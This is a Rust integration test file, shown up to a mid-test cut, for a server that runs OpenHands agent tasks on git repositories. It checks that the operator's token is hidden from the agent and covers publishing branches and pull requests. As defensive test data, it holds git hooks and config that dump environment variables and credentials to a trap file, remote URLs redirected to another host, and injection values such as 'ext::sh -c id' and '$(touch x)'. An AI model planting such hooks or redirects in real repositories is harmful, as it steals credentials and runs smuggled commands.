//! Repositories with the operator's credential: into a task and out of it.

use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};

use mcp_client::Client;
use serde_json::{Value, json};

use super::git_host::{GitHost, Lost};
use super::tools::Proxy;
use super::workspaces::git;
use super::{assert_error, call, conversation, server_with, tool_error, with};
use crate::harness::real::{OpenHands, openhands};
use crate::harness::{Server, assert_contains, assert_lacks, assert_starts_with, wait_until};

/// A server with the credential of the git host, which has the API of `forge`.
async fn server_for(real: &OpenHands, host: &GitHost, forge: &str) -> (Server, Client) {
    // The API of GitLab is not known below a path.
    let path = if forge == "gitlab+" { "" } else { "/acme" };
    let options = [&host.options(forge, path)[..], &[("MCP_LOG", "debug")]].concat();
    server_with(real, &options).await
}

/// Makes a hook of a repository.
fn add_hook(path: &Path, script: &str) {
    std::fs::write(path, script).unwrap();
    std::fs::set_permissions(path, PermissionsExt::from_mode(0o755)).unwrap();
}

/// A regular expression that finds `text`, but not itself.
fn pattern(text: &str) -> String {
    format!("[{}]{}", &text[..1], &text[1..])
}

#[tokio::test]
async fn private_repository_is_fetched_with_a_credential_that_the_agent_does_not_see() {
    let Some(real) = openhands() else { return };
    let host = GitHost::start("git").await;
    let (server, client) = server_for(&real, &host, "").await;
    let seen = format!(
        "RUN: grep -rlE '{}' . ../* ~ 2>/dev/null; env | grep -cE '{}'; cat .git/config",
        pattern(&host.token),
        pattern(&host.token),
    );
    let task = format!("RUN: cat f.txt; git log --oneline | wc -l; wc -c < g.bin\n{seen}");
    for (reference, content) in [
        (json!("dev"), "dev"),
        (json!("v1"), "dev"),
        (json!(null), "one"),
    ] {
        let mut context = json!({"repository": host.url()});
        if !reference.is_null() {
            context["branch"] = reference;
        }
        let run = call!(client, "run_task", {"task": task, "context": context});
        assert_eq!(run["status"], "finished", "{run}");
        let events = call!(client, "get_task_events", {"task_id": run["task_id"], "limit": 50});
        let found = format!("{content} 1 4");
        assert_contains(&events.to_string(), &found);
        // No file holds the token, and no variable; the first output is that of `grep -c`.
        assert_starts_with(&run["last_output"], "0\n[core]");
        assert_contains(&run["last_output"], &host.url());
        assert!(run.get("changed_files").is_none(), "{run}");
        let kept = conversation(&real, &run["task_id"]).await.to_string();
        for text in [&kept, &events.to_string(), &run.to_string(), &server.log()] {
            assert_lacks(text, &host.token);
        }
    }
}

#[tokio::test]
async fn refusals_of_the_git_host_start_no_task() {
    let Some(real) = openhands() else { return };
    let host = GitHost::start("git").await;
    let (_server, client) = server_for(&real, &host, "").await;
    let run = |context: Value| json!({"task": "SAY: x", "context": context});
    let none = run(json!({"repository": format!("{}/acme/none.git", host.service.url)}));
    assert_error(&client, "run_task", none, "There is no such repository").await;
    let branch = run(json!({"repository": host.url(), "branch": "gone"}));
    assert_error(&client, "run_task", branch, "no branch or tag gone").await;
    // A repository outside of the configured URL does not get the token.
    let other = format!("{}/other/app.git", host.service.url);
    let failed = call(&client, "run_task", run(json!({"repository": other}))).await;
    assert_has!(failed, {"status": "failed", "steps": 0});
    assert_contains(&failed["error"], "could not be fetched");
    assert_contains(&failed["error"], "Git says: fatal: ");
    for request in host.service.requests() {
        let has_token = request.headers.contains_key("authorization");
        assert_eq!(
            has_token,
            request.target.starts_with("/acme/"),
            "{request:?}"
        );
    }
    std::fs::write(host.place.0.join("token"), "wrong").unwrap();
    let refused = tool_error(&client, "run_task", run(json!({"repository": host.url()}))).await;
    assert_contains(&refused, "does not allow this with the token");
    assert_lacks(&refused, "wrong");
}

#[tokio::test]
async fn history_and_other_branches_are_fetched_on_request() {
    let Some(real) = openhands() else { return };
    let host = GitHost::start("git").await;
    let (_server, with_token) = server_for(&real, &host, "").await;
    let look =
        "RUN: { git log --format=%s; git branch -r; git tag; git blame -s f.txt | wc -l; } | cat";
    let everything = "third\nsecond\nfirst\n  origin/dev\n  origin/trunk\nv1\n1";
    let one = "third\n  origin/dev\n  origin/trunk\nv1\n1";
    for (depth, expected) in [(0, everything), (1, one)] {
        let context = json!({"repository": host.url(), "branch": "dev", "depth": depth});
        let run = call!(with_token, "run_task", {"task": look, "context": context});
        assert_eq!(run["last_output"], expected, "{run}");
        assert_eq!(run["branch"], "dev", "{run}");
    }
    // The agent has no credential, and git does not wait for one.
    let context = json!({"repository": host.url()});
    let run =
        call!(with_token, "run_task", {"task": "RUN: git fetch origin dev", "context": context});
    assert_contains(&run["last_output"], "Authentication failed");
    // A commit, by its id.
    let first = git(&host.bare(), &["rev-parse", "trunk~1"]);
    let context = json!({"repository": host.url(), "branch": first.trim()});
    let run = call!(with_token, "run_task", {"task": look, "context": context});
    assert_starts_with(&run["last_output"], "first\n");
    let wrong = json!({"task": look, "context": {"depth": 1}});
    assert_error(&with_token, "run_task", wrong, "context.depth needs").await;
}

#[tokio::test]
async fn new_commits_are_fetched_on_request() {
    let Some(real) = openhands() else { return };
    let host = GitHost::start("git").await;
    let (_server, client) = server_for(&real, &host, "").await;
    let look = "RUN: { git log --format=%s origin/dev; git branch -r; git status --short; } | cat";
    let id = work(&client, &host, look).await;
    let (clone, bare) = (host.place.0.join("work"), host.bare());
    git(&clone, &["checkout", "-q", "dev"]);
    git(&clone, &["commit", "-q", "--allow-empty", "-m", "theirs"]);
    git(
        &clone,
        &["push", "-q", bare.to_str().unwrap(), "dev", "dev:other"],
    );
    let all = "theirs\nthird\n  origin/dev\n  origin/other\n  origin/trunk";
    // The second time there is nothing new.
    for (fetch, expected) in [(false, "third\n  origin/dev"), (true, all), (true, all)] {
        let message = json!({"task_id": id, "message": look, "fetch": fetch});
        let run = call(&client, "send_message", message).await;
        assert_has!(run, {"status": "finished", "last_output": expected});
    }
    *host.lost.lock().unwrap() = Lost::All;
    let message = json!({"task_id": id, "message": look, "fetch": true});
    assert_error(&client, "send_message", message, "Git says: ").await;
    let plain = call!(client, "run_task", {"task": "SAY: x"});
    let message = json!({"task_id": plain["task_id"], "message": look, "fetch": true});
    assert_error(&client, "send_message", message, "context.repository").await;
}

#[tokio::test]
async fn submodules_and_files_of_lfs_are_named() {
    let Some(real) = openhands() else { return };
    let host = GitHost::start("git").await;
    let place = [("OPENHANDS_WORKSPACES", host.place.path())];
    let options = [&host.options("", "/acme")[..], &place].concat();
    let (_server, client) = server_with(&real, &options).await;
    let work = host.place.0.join("work");
    let head = git(&work, &["rev-parse", "HEAD"]);
    let link = format!("160000,{},sub", head.trim());
    let pointer = format!(
        "version https://git-lfs.github.com/spec/v1\noid sha256:{}\nsize 5\n",
        "0".repeat(64)
    );
    std::fs::write(work.join("big.dat"), pointer).unwrap();
    std::fs::write(work.join(".gitattributes"), "*.dat filter=lfs\n").unwrap();
    git(&work, &["add", "-A"]);
    git(&work, &["update-index", "--add", "--cacheinfo", &link]);
    git(&work, &["commit", "-q", "-m", "large"]);
    git(
        &work,
        &[
            "push",
            "-q",
            host.bare().to_str().unwrap(),
            "HEAD:refs/heads/large",
        ],
    );
    let context = json!({"repository": host.url(), "branch": "large"});
    let run =
        call!(client, "run_task", {"task": "RUN: echo changed > big.dat", "context": context});
    let warnings = run["warnings"].to_string();
    assert_contains(
        &warnings,
        "submodules are empty: sub; files in Git LFS are pointers: big.dat",
    );
    assert_eq!(run["changed_files"], json!(["M big.dat"]), "{run}");
    let patch = call!(client, "get_task_patch", {"task_id": run["task_id"]});
    assert_contains(&patch["warnings"], "has pointers only");
    // A worktree of the clone of a person.
    let tree = call!(client, "run_task", {"task": "RUN: ls", "workspace": work, "worktree": true});
    assert_contains(
        &tree["warnings"],
        "submodules are empty: sub; files in Git LFS are pointers: big.dat",
    );
    let asks = json!({"task_id": run["task_id"], "title": "x"});
    let refusal = "Git LFS keeps the content of these changed files";
    assert_error(&client, "publish_task", asks, refusal).await;
}

/// The confirmation that a refusal asks for.
pub(super) fn confirmation(question: &str) -> &str {
    let (_, confirm) = question.split_once("confirm: \"").unwrap();
    confirm.trim_end_matches("\".")
}

/// The arguments with the confirmation that the refusal asks for.
async fn confirmed(client: &Client, arguments: Value) -> Value {
    let question = tool_error(client, "publish_task", arguments.clone()).await;
    with(arguments, json!({"confirm": confirmation(&question)}))
}

async fn publish(client: &Client, arguments: Value) -> Value {
    let confirmed = confirmed(client, arguments).await;
    call(client, "publish_task", confirmed).await
}

/// Runs a task with the repository, on `dev`.
async fn work(client: &Client, host: &GitHost, commands: &str) -> Value {
    let context = json!({"repository": host.url(), "branch": "dev"});
    let run = call!(client, "run_task", {"task": commands, "context": context});
    assert_eq!(run["status"], "finished", "{run}");
    run["task_id"].clone()
}

#[tokio::test]
async fn changes_are_published_as_a_commit_and_a_pull_request() {
    let Some(real) = openhands() else { return };
    let opened = |url: &str| json!({"html_url": url, "web_url": url, "number": 7});
    for (forge, user, path) in [
        ("gitea+", "git", "/api/v1/repos/acme/app/pulls"),
        (
            "gitlab+",
            "oauth2",
            "/api/v4/projects/acme%2Fapp/merge_requests",
        ),
        ("github+", "x-access-token", "/api/v3/repos/acme/app/pulls"),
    ] {
        let host = GitHost::start(user).await;
        let (server, client) = server_for(&real, &host, forge).await;
        *host.answer.lock().unwrap() = (201, opened("https://git.test/acme/app/7"));
        let change = "RUN: echo more >> f.txt; rm g.bin; echo x > n.txt; git config user.name a; \
                      git config user.email a@b; git add n.txt; git commit -qm mine";
        let id = work(&client, &host, change).await;
        let question = tool_error!(client, "publish_task", {"task_id": id, "title": "Fix it"});
        for part in ["3 files changed", "into dev", "\"Fix it\"", "/acme/app"] {
            assert_contains(&question, part);
        }
        let told = json!({"task_id": id, "title": "Fix it", "body": format!("Why: ghp_{}", "a1B2".repeat(9))});
        let asked = tool_error(&client, "publish_task", told).await;
        for part in ["Why: ***", "description contains what looks like a secret"] {
            assert_contains(&asked, part);
        }
        // The answer is about this branch only.
        let other = json!({"task_id": id, "title": "Fix it", "branch": "other",
            "confirm": confirmation(&question)});
        let stale = tool_error(&client, "publish_task", other).await;
        // The whole question is there again, with the branch that the answer was not about.
        for part in [
            "about another",
            "3 files changed",
            "to the branch other",
            "n.txt",
            "confirm: \"",
        ] {
            assert_contains(&stale, part);
        }
        assert!(host.api_requests().is_empty());
        assert_eq!(
            git(&host.bare(), &["branch", "--list", "openhands/*", "other"]),
            ""
        );
        let published = publish(
            &client,
            json!({"task_id": id, "title": "Fix it", "body": "Because."}),
        )
        .await;
        assert_eq!(published["pull_request"], "https://git.test/acme/app/7");
        let branch = format!("openhands/{}", &id.as_str().unwrap()[..8]);
        assert_eq!(published["branch"], branch);
        let shown = [
            "show",
            "--no-renames",
            "--stat",
            "--format=%an|%P|%B",
            &*branch,
        ];
        let shown = git(&host.bare(), &shown);
        let dev = git(&host.bare(), &["rev-parse", "dev"]);
        assert_starts_with(
            &shown,
            &format!("OpenHands|{}|Fix it\n\nBecause.", dev.trim()),
        );
        for file in ["f.txt", "g.bin", "n.txt", "3 files changed"] {
            assert_contains(&shown, file);
        }
        let requests = host.api_requests();
        assert_eq!(requests[0].0, format!("POST {path}"));
        let body = match forge {
            "gitlab+" => json!({"title": "Fix it", "source_branch": branch,
                "target_branch": "dev", "description": "Because."}),
            _ => json!({"title": "Fix it", "head": branch, "base": "dev", "body": "Because."}),
        };
        assert_eq!(requests[0].1, body);
        for text in [&server.log(), &published.to_string(), &question] {
            assert_lacks(text, &host.token);
        }
    }
}

#[tokio::test]
async fn more_work_is_added_to_the_published_branch() {
    let Some(real) = openhands() else { return };
    let host = GitHost::start("git").await;
    let (_server, client) = server_for(&real, &host, "gitea+").await;
    let id = work(&client, &host, "RUN: echo one > new").await;
    let asks = json!({"task_id": id, "title": "New", "branch": "topic"});
    // The forge fails: the branch is there, and the rest can be repeated.
    *host.answer.lock().unwrap() = (500, json!({}));
    let published = publish(&client, asks.clone()).await;
    assert_contains(&published["warning"], "The branch was pushed");
    // Another one is open for this branch.
    let open = json!([{"head": {"ref": "other"}, "html_url": "https://git.test/8"},
        {"head": {"ref": "topic"}, "html_url": "https://git.test/9"}]);
    *host.answer.lock().unwrap() = (409, json!({"message": "it exists"}));
    let again = publish(&client, asks.clone()).await;
    assert_contains(&again["warning"], "it exists");
    assert_eq!(again["commit"], published["commit"]);
    let list = host.api_requests().pop().unwrap().0;
    assert_eq!(list, "GET /api/v1/repos/acme/app/pulls?state=open&limit=50");
    *host.answer.lock().unwrap() = (200, open[1].clone());
    call!(client, "send_message", {"task_id": id, "message": "RUN: echo two >> new"});
    let more = publish(&client, json!({"task_id": id, "title": "More"})).await;
    assert_eq!(more["pull_request"], "https://git.test/9");
    assert_eq!(more["branch"], "topic");
    let log = git(&host.bare(), &["log", "--format=%s", "dev..topic"]);
    assert_eq!(log, "More\nNew\n");
    // A commit of another person stays, and the next ones are put on it.
    let work = host.place.0.join("work");
    let bare = host.bare();
    let bare = bare.to_str().unwrap();
    let by_hand = |file: &str, content: &str| {
        git(&work, &["fetch", "-q", bare, "topic"]);
        git(&work, &["checkout", "-q", "--detach", "FETCH_HEAD"]);
        std::fs::write(work.join(file), content).unwrap();
        git(&work, &["add", "-A"]);
        git(&work, &["commit", "-q", "-m", "by hand"]);
        git(&work, &["push", "-q", bare, "HEAD:topic"]);
    };
    by_hand("theirs", "theirs\n");
    for (number, title) in ["Even more", "Most"].into_iter().enumerate() {
        let message = format!("RUN: echo {number} >> new; touch {number}");
        call!(client, "send_message", {"task_id": id, "message": message});
        let asks = json!({"task_id": id, "title": title});
        let question = tool_error(&client, "publish_task", asks.clone()).await;
        assert_contains(&question, "after the commits that others have made there");
        let more = publish(&client, asks).await;
        let tip = git(&host.bare(), &["rev-parse", "topic"]);
        assert_eq!(more["commit"], tip.trim());
    }
    let log = git(&host.bare(), &["log", "--format=%s", "dev..topic"]);
    assert_eq!(log, "Most\nEven more\nby hand\nMore\nNew\n");
    let files = git(&host.bare(), &["diff", "--name-only", "dev", "topic"]);
    assert_eq!(files, "0\n1\nnew\ntheirs\n");
    assert_eq!(
        git(&host.bare(), &["show", "topic:new"]),
        "one\ntwo\n0\n1\n"
    );
    // Nothing is published over the same lines.
    by_hand("new", "another\n");
    call!(client, "send_message", {"task_id": id, "message": "RUN: echo last >> new"});
    let asks = confirmed(&client, json!({"task_id": id, "title": "Last"})).await;
    let refusal = "same lines of the branch, and nothing was published: new.";
    assert_error(&client, "publish_task", asks, refusal).await;
    assert_eq!(git(&host.bare(), &["show", "topic:new"]), "another\n");
    // A branch that it has not made is left alone.
    git(&work, &["push", "-q", bare, "HEAD:refs/heads/foreign"]);
    let asks = json!({"task_id": id, "title": "Last", "branch": "foreign"});
    assert_error(&client, "publish_task", asks, "exists at the git host").await;
}

#[tokio::test]
async fn configuration_and_hooks_of_the_agent_do_not_get_the_credential() {
    let Some(real) = openhands() else { return };
    let host = GitHost::start("git").await;
    let elsewhere = GitHost::start("git").await;
    let (_server, client) = server_for(&real, &host, "").await;
    let trap = host.place.0.join("trap");
    let hostile = format!(
        "RUN: T={trap}; for h in pre-commit pre-push post-commit reference-transaction; do \
         printf '#!/bin/sh\\nenv >> %s; git credential fill >> %s' $T $T > .git/hooks/$h; \
         chmod +x .git/hooks/$h; done; \
         git config core.sshCommand \"env >> $T\"; git config credential.helper \"!cat >> $T\"; \
         git config url.{other}.insteadOf {url}; git config remote.origin.url {other}; \
         git config remote.origin.pushurl {other}; git config http.proxy {other}; \
         git config core.fsmonitor \"env >> $T; false\"; git config gpg.program /bin/false; \
         git config commit.gpgSign true; git config push.followTags true; \
         git tag evil; git branch evil; echo x > new",
        trap = trap.display(),
        other = elsewhere.service.url,
        url = host.url(),
    );
    let id = work(&client, &host, &hostile).await;
    let asks = json!({"task_id": id, "title": "`$(touch x)`' -x", "pull_request": false});
    let published = publish(&client, asks).await;
    assert!(published.get("pull_request").is_none(), "{published}");
    let refs = git(&host.bare(), &["for-each-ref", "--format=%(refname)"]);
    assert_lacks(&refs, "evil");
    let branch = published["branch"].as_str().unwrap();
    let title = git(&host.bare(), &["log", "-1", "--format=%s", branch]);
    assert_eq!(title.trim(), "`$(touch x)`' -x");
    assert!(elsewhere.service.requests().is_empty());
    let caught = std::fs::read(&trap).unwrap_or_default();
    assert_lacks(&String::from_utf8_lossy(&caught).into_owned(), &host.token);
    assert_error!(client, "publish_task", {"task_id": id, "title": "x", "branch": "--force"},
        "new branch");
}

#[tokio::test]
async fn push_whose_record_is_lost_is_known_later() {
    let Some(real) = openhands() else { return };
    let host = GitHost::start("git").await;
    let proxy = Proxy::start(real).await;
    let (_server, client) = server_for(&proxy.real, &host, "").await;
    let id = work(&client, &host, "RUN: echo x > new").await;
    // The host runs in the thread of this test, which goes on before our server gets the answer.
    let pushed = host.place.0.join("pushed");
    let hook = format!("#!/bin/sh\ntouch {}; sleep 1\n", pushed.display());
    add_hook(&host.bare().join("hooks/post-receive"), &hook);
    let asks = json!({"task_id": id, "title": "New"});
    let (published, ()) = tokio::join!(publish(&client, asks.clone()), async {
        wait_until("the push", async || pushed.exists()).await;
        proxy.disconnect();
    });
    assert_contains(&published["warning"], "could not be recorded");
    let branch = published["branch"].as_str().unwrap();
    let tip = git(&host.bare(), &["rev-parse", branch]);
    assert_eq!(tip.trim(), published["commit"]);
    proxy.reconnect();
    // The branch is known as that of the task.
    assert_error(&client, "publish_task", asks.clone(), "nothing to publish").await;
    call!(client, "send_message", {"task_id": id, "message": "RUN: echo y > new"});
    let again = publish(&client, asks).await;
    assert_lacks(&again, "could not be recorded");
    let parent = git(&host.bare(), &["rev-parse", &format!("{branch}^")]);
    assert_eq!(parent, tip);
}

#[tokio::test]
async fn push_and_pull_request_whose_answers_are_lost_are_found() {
    let Some(real) = openhands() else { return };
    let host = GitHost::start("git").await;
    let (_server, client) = server_for(&real, &host, "gitea+").await;
    let id = work(&client, &host, "RUN: echo one > new").await;
    let open = json!([{"head": {"ref": "topic"}, "html_url": "https://git.test/9"}]);
    *host.answer.lock().unwrap() = (0, open);
    *host.lost.lock().unwrap() = Lost::Pushes;
    let asks = json!({"task_id": id, "title": "New", "branch": "topic"});
    let published = publish(&client, asks).await;
    let tip = git(&host.bare(), &["rev-parse", "topic"]);
    assert_has!(published, {"pull_request": "https://git.test/9", "commit": tip.trim(), "warning": null});
    // Nor does the host tell what it has.
    call!(client, "send_message", {"task_id": id, "message": "RUN: echo two >> new"});
    let asks = json!({"task_id": id, "title": "More"});
    let confirmed = confirmed(&client, asks.clone()).await;
    *host.lost.lock().unwrap() = Lost::FromPush;
    let error = tool_error(&client, "publish_task", confirmed).await;
    assert_contains(
        &error,
        "has not confirmed the push, so the branch topic may have",
    );
    assert_contains(&error, "call publish_task again");
    *host.lost.lock().unwrap() = Lost::None;
    let published = publish(&client, asks).await;
    assert_has!(published, {"branch": "topic", "warning": null});
    let log = git(&host.bare(), &["log", "--format=%s", "dev..topic"]);
    assert_eq!(log, "More\nNew\n");
}

#[tokio::test]
async fn only_what_can_be_published_is() {
    let Some(real) = openhands() else { return };
    let host = GitHost::start("git").await;
    let (_server, client) = server_for(&real, &host, "gitea+").await;
    let id = work(&client, &host, "RUN: ls").await;
    let same = "There is nothing to publish";
    for (more, reason) in [
        (json!({}), same),
        (json!({"branch": "dev"}), "new branch"),
        (json!({"branch": "trunk"}), "exists at the git host"),
        (json!({"base": "gone"}), "no such branch"),
        (json!({"title": " "}), "title must not be empty"),
        (json!({"repository": "ext::sh -c id"}), "repository "),
        (
            json!({"repository": "https://github.com/a/b"}),
            "no credential",
        ),
    ] {
        let asks = with(json!({"task_id": id, "title": "x"}), more);
        assert_error(&client, "publish_task", asks, reason).await;
    }
    let plain = call!(client, "run_task", {"task": "RUN: echo x > new"});
    let asks = json!({"task_id": plain["task_id"], "title": "x"});
    assert_error(&client, "publish_task", asks.clone(), "say repository").await;
    let named = with(asks, json!({"repository": host.url()}));
    assert_error(&client, "publish_task", named, "no commit in common").await;
    // Git's own reason, if it is none of those.
    let broken = "RUN: echo x > new; git add new; git -c user.name=t -c user.email=t@h commit -qm x; \
                  rm -f .git/objects/$(git rev-parse HEAD | sed 's|^..|&/|')";
    let id = work(&client, &host, broken).await;
    let asks = json!({"task_id": id, "title": "x"});
    assert_error(&client, "publish_task", asks, "git failed (").await;
    let many = "RUN: for i in $(seq 120); do echo x > a-file-with-a-long-name-$i; done";
    let id = work(&client, &host, many).await;
    let asks = json!({"task_id": id, "title": "x"});
    assert_error(&client, "publish_task", asks, "get_task_changes lists all.").await;
    // A hook of the host declines, and says why.
    let declines = "#!/bin/sh\necho not on Sundays >&2; exit 1\n";
    add_hook(&host.bare().join("hooks/pre-receive"), declines);
    let id = work(
        &client,
        &host,
        // It is found whatever the repository says about the file.
        "RUN: echo gh''p_0123456789abcdefghijABCDEFGHIJKLMNOP > new; echo '* -diff' > .git/info/attributes; \
         git replace $(git hash-object -w new) $(echo ok | git hash-object -w --stdin)",
    )
    .await;
    let asks = json!({"task_id": id, "title": "x"});
    assert_error(&client, "publish_task", asks.clone(), "looks like a secret").await;
    let asks = confirmed(&client, asks).await;
    assert_error(&client, "publish_task", asks, "not on Sundays").await;
}

/// Deletes a task whose worktree holds a commit and files that are nowhere else, and a file that a person adds.
async fn delete_with_unsaved_work(client: &Client, id: &Value, directory: &Path) {
    let mut asks = json!({"task_id": id, "confirm": id});
    // The id alone is no answer to the question about the work that is lost.
    let question = tool_error(client, "delete_task", asks.clone()).await;
    for part in [
        "1 commits that no other branch has",
        "RUN: cat f.txt",
        "?? mine",
        "git ignores",
        ".env",
    ] {
        assert_contains(&question, part);
    }
    let notes = directory.join("notes.txt");
    std::fs::write(&notes, "of a person").unwrap();
    asks["confirm"] = json!(confirmation(&question));
    let question = tool_error(client, "delete_task", asks.clone()).await;
    assert_contains(&question, "?? notes.txt");
    assert!(notes.exists());
    asks["confirm"] = json!(confirmation(&question));
    assert_eq!(call(client, "delete_task", asks).await["deleted"], true);
}

#[tokio::test]
async fn parallel_tasks_work_in_worktrees_of_one_repository() {
    let Some(real) = openhands() else { return };
    let host = GitHost::start("git").await;
    let place = [("OPENHANDS_WORKSPACES", host.place.path())];
    let options = [&host.options("", "")[..], &place].concat();
    let (_server, client) = server_with(&real, &options).await;
    let clone = host.place.0.join("work");
    let hook = clone.join(".git/hooks/post-checkout");
    add_hook(&hook, "#!/bin/sh\ntouch hooked\n");
    std::fs::write(clone.join("f.txt"), "not committed\n").unwrap();
    std::fs::write(clone.join(".git/info/exclude"), ".env\nmodules\n").unwrap();
    std::fs::write(clone.join(".env"), "A=1\n").unwrap();
    std::fs::create_dir(clone.join("modules")).unwrap();
    std::fs::write(clone.join("modules/m"), "").unwrap();
    let task = |name: &str| {
        json!({"task": format!("RUN: cat f.txt; echo *; cat .env; echo {name} > same"), "workspace": clone,
            "worktree": true, "worktree_files": [".env", "modules"],
            "context": {"file": "mine", "content": name}})
    };
    let runs = call!(client, "run_parallel_tasks",
        {"tasks": [task("one"), task("two")], "wait_seconds": 25});
    for (run, name) in runs["tasks"].as_array().unwrap().iter().zip(["one", "two"]) {
        let id = &run["task_id"];
        // A busy agent server may need more than the time of the call.
        call!(client, "wait_task", {"task_id": id});
        let run = call!(client, "get_task_result", {"task_id": id});
        assert_eq!(run["changed_files"], json!(["A same"]), "{run}");
        assert_eq!(
            run["last_output"], "one\nf.txt g.bin mine modules\nA=1",
            "{run}"
        );
        assert_contains(
            &run["warnings"],
            "changes in workspace that are not committed",
        );
        let branch = format!("task-{}", &id.as_str().unwrap()[..8]);
        assert_eq!(run["branch"], branch, "{run}");
        let directory = Path::new(run["directory"].as_str().unwrap());
        assert!(directory.join("same").exists(), "{run}");
        // The work is on its branch, without the files that the caller gave.
        let shown = git(&clone, &["show", "--name-only", "--format=%an", &branch]);
        assert_eq!(shown, "OpenHands\n\nsame\n");
        assert_starts_with(
            &git(&clone, &["log", "--format=%s", &branch]),
            "RUN: cat f.txt",
        );
        let asks = json!({"task_id": id, "title": name, "repository": host.url()});
        // The API of this git host is not known.
        let demanded = with(asks.clone(), json!({"pull_request": true}));
        let refusal = "which API this git host has";
        assert_error(&client, "publish_task", demanded, refusal).await;
        let question = tool_error(&client, "publish_task", asks.clone()).await;
        assert_contains(&question, "No pull request is opened");
        let published = publish(&client, asks).await;
        assert_contains(&published["warning"], "No pull request is opened");
        let branch = published["branch"].as_str().unwrap();
        let same = git(&host.bare(), &["show", &format!("{branch}:same")]);
        assert_eq!(same.trim(), name);
        let delete = |id: &Value| json!({"task_id": id, "confirm": id});
        let other = json!({"task": "RUN: echo x > other", "workspace": directory.file_name().unwrap().to_str()});
        let other = call(&client, "run_task", other).await;
        let refusal = "has worked in its worktree";
        assert_error(&client, "delete_task", delete(id), refusal).await;
        call(&client, "delete_task", delete(&other["task_id"])).await;
        assert!(directory.join("other").exists());
        delete_with_unsaved_work(&client, id, directory).await;
        assert!(!directory.exists());
        let short = &id.as_str().unwrap()[..8];
        assert_lacks(&git(&clone, &["branch"]), short);
    }
    assert!(!clone.join("same").exists());
    // The agent adds all files to the index.
    let staged = "RUN: head -c 25000000 /dev/zero > big; echo x > own; git add -A";
    let run = call!(client, "run_task", {"task": staged, "workspace": clone, "worktree": true,
        "context": {"file": "mine", "content": "given"}});
    assert_eq!(run["status"], "finished", "{run}");
    let shown = [
        "show",
        "--name-only",
        "--format=",
        run["branch"].as_str().unwrap(),
    ];
    assert_eq!(git(&clone, &shown), "own\n");
    let left = git(
        Path::new(run["directory"].as_str().unwrap()),
        &["status", "--porcelain"],
    );
    assert_eq!(left, "A  big\nA  mine\n");
    let merging = "RUN: b=$(git rev-parse HEAD:f.txt); git rm -q --cached f.txt; \
                   printf \"100644 $b 1\\tf.txt\\n100644 $b 2\\tf.txt\\n\" | git update-index --index-info";
    let run = call!(client, "run_task", {"task": merging, "workspace": clone, "worktree": true});
    assert_contains(&run["warnings"], "a merge in it is not finished");
    // A directory that is a link in the last commit.
    symlink(&host.place.0, clone.join("out")).unwrap();
    git(&clone, &["add", "out"]);
    git(&clone, &["commit", "-q", "-m", "link"]);
    std::fs::remove_file(clone.join("out")).unwrap();
    std::fs::create_dir(clone.join("out")).unwrap();
    std::fs::write(clone.join("out/escaped"), "").unwrap();
    for (more, reason) in [
        (
            json!({"workspace": clone, "worktree": true, "worktree_files": ["out/escaped"]}),
            "symbolic link",
        ),
        (
            json!({"workspace": "no-repository", "worktree": true}),
            "no repository",
        ),
        (json!({"worktree": true}), "needs"),
        (
            json!({"worktree_files": ["a"]}),
            "worktree_files needs worktree",
        ),
        (
            json!({"workspace": clone, "worktree": true, "worktree_files": ["none"]}),
            "there is no none in workspace",
        ),
    ] {
        let asks = with(json!({"task": "SAY: x"}), more);
        assert_error(&client, "run_task", asks, reason).await;
    }
    assert!(!host.place.0.join("escaped").exists());
}

/// A clone of the host's repository in which a person works: with a commit that is not pushed, a change that is not
/// committed, and files of their own.
fn clone_of_a_person(host: &GitHost, name: &str) -> PathBuf {
    let clone = host.place.0.join(name);
    git(&host.place.0, &["clone", "-q", "acme/app.git", name]);
    for (file, content) in [("wip.txt", "wip\n"), (".gitignore", "secret\n")] {
        std::fs::write(clone.join(file), content).unwrap();
    }
    git(&clone, &["add", "-A"]);
    git(&clone, &["commit", "-q", "-m", "not pushed"]);
    for (file, content) in [
        (".env", "PASSWORD=hunter2-my-private\n"),
        ("private-notes.md", "mine\n"),
        ("secret", "mine\n"),
        ("f.txt", "not committed\n"),
    ] {
        std::fs::write(clone.join(file), content).unwrap();
    }
    clone
}

#[tokio::test]
async fn nothing_but_the_changes_of_the_task_is_published() {
    let Some(real) = openhands() else { return };
    let host = GitHost::start("git").await;
    let places = ["OPENHANDS_WORKSPACES", "OPENHANDS_WORKSPACE_ROOT"];
    let places = places.map(|name| (name, host.place.path()));
    let options = [&host.options("", "")[..], &places].concat();
    let (_server, client) = server_with(&real, &options).await;
    let commit = "git -c user.name=t -c user.email=t@h commit -qam x";
    let many = format!(
        "mkdir d; git mv g.bin d/g.bin; printf '\\0\\1' > bin; ln -s bin link; echo x > run; chmod +x run; \
         git add run bin; {commit}; git init -q in; echo x > in/x; rm private-notes.md"
    );
    let raced = format!("echo v=1 > v; git add v; {commit}; echo v=2 > v");
    let published = "A bin,R g.bin -> d/g.bin,A link,A run";
    // The commands, the changes, those that are published, and the reason why none is.
    for (number, (commands, changed, wanted)) in [
        ("echo fix > fix.txt", "A fix.txt", Ok("A fix.txt")),
        (&*raced, "A v", Ok("A v")),
        (
            &*many,
            "A bin,R g.bin -> d/g.bin,A link,D private-notes.md,A run,A in/,A in/x",
            Ok(published),
        ),
        ("echo x >> f.txt; echo x > n", "M f.txt,A n", Err("somebody else before, which the git host does not have, so nothing is published: f.txt.")),
        ("echo x >> wip.txt", "M wip.txt", Err("published: wip.txt.")),
        ("echo > .gitignore", "M .gitignore,A secret", Err("Git ignored these files when the task began, and does not now, so they may be somebody's own, and nothing is published: secret.")),
        ("head -c 25000000 /dev/zero > big; echo x > n", "A big (25 MB),A n", Err("larger than 20 MB, so nothing is published: big.")),
    ]
    .into_iter()
    .enumerate()
    {
        let clone = clone_of_a_person(&host, &format!("clone-{number}"));
        let run = call!(client, "run_task", {"task": format!("RUN: {commands}"),
            "workspace": clone, "verify": "test ! -e fix.txt",
            "context": {"file": "given.txt", "content": "given\n"}});
        let seen: Vec<_> = run["changed_files"].as_array().unwrap().iter().collect();
        let seen: Vec<_> = seen.iter().map(|line| line.as_str().unwrap()).collect();
        assert_eq!(seen.join(","), changed, "{run}");
        let asks = json!({"task_id": run["task_id"], "title": "x", "repository": host.url(),
            "branch": format!("topic-{number}"), "pull_request": false});
        let question = tool_error(&client, "publish_task", asks.clone()).await;
        let wanted = match wanted {
            Ok(wanted) => wanted,
            Err(reason) => {
                assert_contains(&question, reason);
                continue;
            }
        };
        let names = wanted.replace(',', ", ");
        assert_contains(&question, &format!("The files: {names}."));
